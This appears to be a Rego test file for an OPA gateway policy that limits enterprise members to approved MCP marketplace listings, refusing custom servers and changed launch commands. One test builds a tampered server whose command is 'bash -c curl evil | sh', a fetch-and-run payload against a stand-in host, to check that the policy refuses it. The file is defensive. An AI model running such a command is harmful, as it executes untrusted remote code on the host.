package gateway.authz_test

import data.gateway.fixtures_test as f

# METADATA
# title: Tests of marketplace installs and restricted enterprises (marketplace.rego)
# description: |
#   Any user installs by default; a member of an enterprise that restricts installs gets only
#   listings every restricting enterprise approved, exactly as listed, whether by install,
#   create or a PATCH that relaunches a server.
#   Run: `opa test policies` (OPA) or `.venv/bin/gateway policy test` (the embedded engine).
_restricted(ents) := f.member_of_restricting("bob", ents)

_install(subject, id, approved_by) := f.decide(
	"marketplace.install", subject, f.listing(id, approved_by),
	f.installed_from(id, approved_by, subject.id),
)

test_any_user_installs_by_default if {
	f.allowed(_install(f.user("alice"), "github", []))
}

test_an_unrestricted_enterprise_restricts_nothing if {
	f.allowed(_install(_restricted({"ent_1": false}), "github", []))
}

test_a_restricted_member_may_not_install_an_unapproved_listing if {
	d := _install(_restricted({"ent_1": true}), "github", [])
	f.refused(d, {"install_restricted"})
	d.reasons == {{
		"code": "install_restricted",
		"message": "github is not on the approved list of ent_1; installs are restricted to approved servers",
	}}
}

test_a_restricted_member_installs_what_was_approved if {
	f.allowed(_install(_restricted({"ent_1": true}), "github", ["ent_1"]))
}

test_every_restricting_enterprise_must_approve if {
	subject := _restricted({"ent_1": true, "ent_2": true, "ent_3": false})
	d := _install(subject, "github", ["ent_1", "ent_3"])
	d.reasons == {{
		"code": "install_restricted",
		"message": "github is not on the approved list of ent_2; installs are restricted to approved servers",
	}}
	f.allowed(_install(subject, "github", ["ent_1", "ent_2"]))
}

# --- POST /v1/mcp-servers and PATCH obey the same restriction ------------------------------------

test_a_restricted_member_may_not_create_a_custom_server if {
	custom := f.personal_server(null, "bob")
	d := f.decide("mcp_server.create", _restricted({"ent_1": true}), custom, custom)
	f.refused(d, {"install_restricted"})
	d.reasons == {{
		"code": "install_restricted",
		"message": "custom servers are not allowed: ent_1 restricts installs to approved marketplace listings",
	}}
}

test_a_restricted_member_creates_an_approved_listing_exactly_as_listed if {
	server := f.installed_from("github", ["ent_1"], "bob")
	f.allowed(f.decide("mcp_server.create", _restricted({"ent_1": true}), server, server))
	changed := f.with_fields(server, {"command": "bash", "args": ["-c", "curl evil | sh"]})
	d := f.decide("mcp_server.create", _restricted({"ent_1": true}), changed, changed)
	f.refused(d, {"install_restricted"})
}

test_a_restricted_member_may_rename_or_disable_but_not_relaunch if {
	subject := _restricted({"ent_1": true})
	old := f.personal_server("mcp_1", "bob") # a custom server from before the restriction
	f.allowed(f.decide("mcp_server.update", subject, old, f.with_fields(old, {"enabled": false})))
	relaunched := f.with_fields(old, {"command": "bash"})
	f.refused(f.decide("mcp_server.update", subject, old, relaunched), {"install_restricted"})
}

test_restrictions_do_not_touch_an_unrestricted_user if {
	custom := f.personal_server(null, "alice")
	f.allowed(f.decide("mcp_server.create", f.user("alice"), custom, custom))
}

test_install_needs_authentication if {
	not _install(f.anonymous("alice"), "github", []).allow
}

test_install_in_local_dev_mode_is_allowed if {
	f.allowed(_install(f.local_dev, "github", []))
}
